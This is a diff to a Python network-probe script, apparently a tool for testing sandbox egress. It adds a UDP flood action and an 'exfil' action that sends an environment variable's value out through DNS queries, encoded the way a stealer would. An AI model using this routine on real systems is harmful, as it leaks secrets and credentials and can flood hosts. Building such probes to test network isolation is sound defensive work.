@@ -9,14 +9,21 @@ Usage: net-probe.py ACTION...  where each ACTION is a JSON list:
                                 (SO_BROADCAST), IPv6 link-local multicast out of the first
                                 interface that is not lo
   ["dns", server, name]         a raw DNS query (type A) over UDP to server:53
+  ["udpflood", host, port, nports, n]
+                                n datagrams to host, port .. port+nports-1 in turn; the
+                                errno of each failed send is counted
+  ["exfil", server, zone, var]  DNS queries to server:53 carrying the value of the
+                                environment variable var, encoded several ways (names below)
   ["resolve", name]             getaddrinfo(name)
   ["run", argv...]              run a command, report its exit code and output
   ["file", path]                the content of a file
   ["wait"]                      print "waiting" and block until stdin closes
 """
 
+import base64
 import errno
 import json
+import os
 import socket
 import struct
 import subprocess
@@ -108,6 +115,46 @@ def dns(server, name):
         s.close()
 
 
+def udpflood(host, port, nports, n):
+    s = socket.socket(family_of(host), socket.SOCK_DGRAM)
+    errors = {}
+    try:
+        for i in range(n):
+            try:
+                s.sendto(b"x", (host, port + i % nports))
+            except OSError as e:
+                errors[err_name(e)] = errors.get(err_name(e), 0) + 1
+    finally:
+        s.close()
+    return {"ok": True, "errors": errors}
+
+
+def exfil_names(value, zone):
+    """The names a stealer would put a secret in: base64 (URL alphabet), base32, hex split
+    over labels, and the value itself."""
+    v = value.encode()
+    b64 = base64.urlsafe_b64encode(v).decode().rstrip("=")
+    b32 = base64.b32encode(b"x" + v).decode().rstrip("=").lower()
+    hx = v.hex()
+    return {
+        "literal": f"exfil-{value}{zone}",
+        "base64": f"exfil-{b64}{zone}",
+        "base32": f"b-{b32[:9]}.{b32[9:]}{zone}",
+        "hex": f"h{hx[:7]}.{hx[7:20]}.{hx[20:]}{zone}",
+    }
+
+
+def exfil(server, zone, var):
+    names = exfil_names(os.environ[var], zone)
+    out = {}
+    for kind, name in names.items():
+        try:
+            out[kind] = dns(server, name).get("ok")
+        except OSError as e:
+            out[kind] = err_name(e)
+    return {"ok": all(x is True for x in out.values()), "sent": out}
+
+
 def resolve(name):
     infos = socket.getaddrinfo(name, None, socket.AF_UNSPEC, socket.SOCK_STREAM)
     return {"ok": True, "addresses": sorted({i[4][0] for i in infos})}
@@ -134,8 +181,8 @@ def wait():
     return {"ok": True}
 
 
-ACTIONS = {"tcp": tcp, "udp": udp, "udp_send": udp_send, "dns": dns, "resolve": resolve,
-           "run": run, "file": read_file, "wait": wait}
+ACTIONS = {"tcp": tcp, "udp": udp, "udp_send": udp_send, "dns": dns, "udpflood": udpflood,
+           "exfil": exfil, "resolve": resolve, "run": run, "file": read_file, "wait": wait}
 
 
 def main():
